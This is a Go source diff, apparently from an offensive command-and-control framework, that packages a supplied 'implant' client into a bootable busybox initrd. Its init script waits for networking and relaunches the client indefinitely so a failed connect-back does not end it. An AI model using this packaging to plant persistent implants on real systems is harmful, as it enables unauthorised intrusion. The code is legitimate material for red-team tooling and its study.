@@ -0,0 +1,146 @@
+package webserver
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+)
+
+// initScript is installed as /init in the generated rootfs. It waits for an
+// interface to come up before starting the client, and restarts it if it
+// ever exits, so a flaky connect-back doesn't leave the implant dead after
+// one failed dial.
+const initScript = `#!/bin/sh
+/bin/busybox --install -s
+
+mount -t proc none /proc
+mount -t sysfs none /sys
+mount -t devtmpfs none /dev
+
+until ip link show | grep -q 'state UP'; do
+	sleep 1
+done
+
+while true; do
+	/bin/client
+	sleep 5
+done
+`
+
+// buildInitrd assembles a minimal rootfs (busybox + the supplied client
+// binary, supervised by initScript as /init; no musl or other libc is
+// copied in) and packs it into a CPIO+gzip initrd under workDir. It returns
+// the path to a manifest file recording the SHA256 of the client binary (so
+// Delete can clean it up and an operator can verify the artifact
+// out-of-band), and the path to the initrd itself.
+func buildInitrd(workDir, clientPath string) (manifestPath, initrdPath string, err error) {
+	rootfs := filepath.Join(workDir, "rootfs")
+
+	for _, dir := range []string{"bin", "dev", "proc", "sys"} {
+		if err := os.MkdirAll(filepath.Join(rootfs, dir), 0755); err != nil {
+			return "", "", fmt.Errorf("unable to create rootfs/%s: %s", dir, err)
+		}
+	}
+
+	if err := copyFile(clientPath, filepath.Join(rootfs, "bin", "client")); err != nil {
+		return "", "", err
+	}
+	os.Chmod(filepath.Join(rootfs, "bin", "client"), 0755)
+
+	busybox, err := exec.LookPath("busybox")
+	if err != nil {
+		return "", "", fmt.Errorf("busybox not found on PATH, required to build the bootable rootfs: %s", err)
+	}
+	if err := copyFile(busybox, filepath.Join(rootfs, "bin", "busybox")); err != nil {
+		return "", "", err
+	}
+	os.Chmod(filepath.Join(rootfs, "bin", "busybox"), 0755)
+
+	initPath := filepath.Join(rootfs, "init")
+	if err := os.WriteFile(initPath, []byte(initScript), 0755); err != nil {
+		return "", "", fmt.Errorf("unable to write /init: %s", err)
+	}
+
+	clientSum, err := sha256File(clientPath)
+	if err != nil {
+		return "", "", err
+	}
+
+	initrdPath = filepath.Join(workDir, "initrd")
+	if err := packInitrd(rootfs, initrdPath); err != nil {
+		return "", "", err
+	}
+
+	manifestPath = filepath.Join(workDir, "manifest.txt")
+	manifest := fmt.Sprintf("client_sha256=%s\n", clientSum)
+	if err := os.WriteFile(manifestPath, []byte(manifest), 0600); err != nil {
+		return "", "", fmt.Errorf("unable to write rootfs manifest: %s", err)
+	}
+
+	return manifestPath, initrdPath, nil
+}
+
+// packInitrd writes a gzip'd CPIO archive of rootfs to initrdPath by piping
+// `find . | cpio -o -H newc | gzip -9` together directly, rather than via a
+// shell string: rootfs (and so initrdPath, both derived from the bootable
+// work directory) must never be interpolated into a command a shell parses,
+// or a crafted path could break out of it or inject arbitrary commands.
+func packInitrd(rootfs, initrdPath string) error {
+	initrdFile, err := os.Create(initrdPath)
+	if err != nil {
+		return fmt.Errorf("unable to create initrd: %s", err)
+	}
+	defer initrdFile.Close()
+
+	findCmd := exec.Command("find", ".")
+	findCmd.Dir = rootfs
+
+	cpioCmd := exec.Command("cpio", "-o", "-H", "newc")
+	cpioCmd.Dir = rootfs
+
+	gzipCmd := exec.Command("gzip", "-9")
+	gzipCmd.Stdout = initrdFile
+
+	var cpioErr, gzipErr bytes.Buffer
+	cpioCmd.Stderr = &cpioErr
+	gzipCmd.Stderr = &gzipErr
+
+	if cpioCmd.Stdin, err = findCmd.StdoutPipe(); err != nil {
+		return fmt.Errorf("unable to pack initrd: %s", err)
+	}
+	if gzipCmd.Stdin, err = cpioCmd.StdoutPipe(); err != nil {
+		return fmt.Errorf("unable to pack initrd: %s", err)
+	}
+
+	if err := gzipCmd.Start(); err != nil {
+		return fmt.Errorf("unable to pack initrd: %s", err)
+	}
+	if err := cpioCmd.Start(); err != nil {
+		return fmt.Errorf("unable to pack initrd: %s", err)
+	}
+	if err := findCmd.Run(); err != nil {
+		return fmt.Errorf("unable to pack initrd, find failed: %s", err)
+	}
+	if err := cpioCmd.Wait(); err != nil {
+		return fmt.Errorf("unable to pack initrd, cpio failed: %s\n%s", err, cpioErr.String())
+	}
+	if err := gzipCmd.Wait(); err != nil {
+		return fmt.Errorf("unable to pack initrd, gzip failed: %s\n%s", err, gzipErr.String())
+	}
+
+	return nil
+}
+
+func sha256File(path string) (string, error) {
+	content, err := os.ReadFile(path)
+	if err != nil {
+		return "", fmt.Errorf("unable to hash %s: %s", path, err)
+	}
+
+	sum := sha256.Sum256(content)
+	return hex.EncodeToString(sum[:]), nil
+}